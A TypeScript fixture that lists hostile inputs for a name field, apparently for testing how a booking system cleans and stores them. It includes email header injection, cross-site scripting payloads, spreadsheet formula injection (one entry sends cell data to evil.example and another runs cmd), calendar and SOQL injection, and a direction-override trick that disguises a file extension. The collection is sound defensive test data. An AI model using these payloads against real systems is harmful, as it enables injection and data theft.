/** What somebody may type where a name is asked for. */
export interface HostileName {
    what: string;
    typed: string;
    /** As it is kept; without it, the booking is refused. */
    kept?: string;
}

const asIs = (what: string, typed: string): HostileName => ({ what, typed, kept: typed });

/** Texts that break programs which trust them. Each is at most 80 characters, unless that is the point. */
export const HOSTILE_NAMES: readonly HostileName[] = [
    { what: 'header lines', typed: 'Ada\r\nBcc: victim@example.com\r\nSubject: Prize' },
    { what: 'a line break', typed: 'Ada\nBEGIN:VALARM' },
    { what: 'a NUL', typed: 'Ada\u0000Byron' },
    { what: 'a line separator', typed: 'Ada\u2028Byron' },
    { what: 'half of a character', typed: 'Ada \ud83d' },
    { what: 'more than a name', typed: 'x'.repeat(81) },
    { what: 'nothing that shows', typed: '\u200b\u2060\u200d\ufeff' },
    asIs('a script', '"\'><script>alert(1)</script><img src=x onerror=alert(1)>'),
    asIs('markup that ends a text area', '</textarea></title><svg onload=alert(1)>'),
    asIs('an encoded header', '=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5jb20=?='),
    asIs('addresses', 'Ada <victim@example.com>, "Eve" <eve@example.com>'),
    asIs('a formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    asIs('a formula with a plus', "+1+cmd|' /C calc'!A0"),
    asIs('a formula with an at sign', '@SUM(1+1)*cmd'),
    asIs('a formula with a minus', '-2+3'),
    asIs('what separates in a calendar', 'a;b,c:d\\nBEGIN:VALARM\\;"^n'),
    asIs('a parameter of a calendar', '";X="1":mailto:eve@example.com;CN=Eve'),
    asIs('quotes of SOQL', "' OR Name != '"),
    asIs('wildcards of SOQL', "%_\\' LIMIT 1"),
    asIs('emoji', '👩\u200d🚀 Ada 🏳️\u200d🌈'),
    asIs('two directions', 'عَدَا Ada שלום'),
    { what: 'an override of direction', typed: 'Ada \u202egnp.exe\u202c', kept: 'Ada gnp.exe' },
    { what: 'an isolate of direction', typed: '\u2067Ada\u2069', kept: 'Ada' },
    { what: 'characters without width', typed: 'A\u200bd\u2060a\ufeff', kept: 'Ada' },
    asIs('the longest name', `${'Ж'.repeat(79)}я`)
];
